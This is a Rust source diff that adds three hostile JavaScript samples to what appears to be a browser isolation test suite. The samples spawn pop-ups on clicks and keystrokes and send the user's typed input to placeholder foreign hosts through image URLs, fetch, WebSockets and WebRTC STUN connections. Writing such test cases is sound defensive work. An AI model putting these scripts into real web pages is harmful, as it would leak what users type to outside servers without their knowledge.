@@ -2,7 +2,7 @@
 
 use super::hostility::Hostility;
 
-pub(super) const WINDOWS: [Hostility; 15] = [
+pub(super) const WINDOWS: [Hostility; 18] = [
     Hostility::html(
         "frame-of-another-origin",
         "<iframe src=\"@FOREIGN@/frame\" width=\"300\" height=\"100\"></iframe>",
@@ -36,6 +36,33 @@ pub(super) const WINDOWS: [Hostility; 15] = [
         "const more = () => { for (let n = 0; n < 20; n++) window.open('@FOREIGN@/pop-up?n=' + n); };
 for (const kind of ['mousedown', 'click', 'keydown']) addEventListener(kind, more, true);
 setInterval(more, 1000);",
+    ),
+    Hostility::script(
+        "calls-from-pop-ups",
+        "const call = async (tab) => {
+  const call = new tab.RTCPeerConnection({ iceServers: [{ urls: 'stun:@HOST@' }] });
+  call.createDataChannel(typed());
+  await call.setLocalDescription(await call.createOffer());
+};
+const all = () => { for (let n = 0; n < 5; n++) call(window.open('about:blank')).catch(() => {}); };
+for (const kind of ['mousedown', 'input', 'click']) addEventListener(kind, all, true);",
+    ),
+    Hostility::script(
+        "writes-into-pop-ups",
+        "const write = () => {
+  const tab = window.open();
+  tab?.document.write('<img src=\"@FOREIGN@/written?' + encodeURIComponent(typed()) + '\"><iframe src=\"@FOREIGN@/written-frame\"></iframe><script>new WebSocket(\"@SOCKET@/written\")</scr' + 'ipt>');
+};
+for (const kind of ['mousedown', 'input', 'click']) addEventListener(kind, write, true);",
+    ),
+    Hostility::script(
+        "pop-ups-of-its-own-making",
+        "const make = () => {
+  const page = '<script>fetch(\"@FOREIGN@/made?\" + encodeURIComponent(opener ? opener.typed?.() : 1))</scr' + 'ipt>';
+  const blob = URL.createObjectURL(new Blob([page], { type: 'text/html' }));
+  for (const features of ['', 'noopener', 'popup']) window.open(blob, '_blank', features);
+};
+for (const kind of ['mousedown', 'input', 'click']) addEventListener(kind, make, true);",
     ),
     Hostility::script(
         "continues-in-a-new-tab",
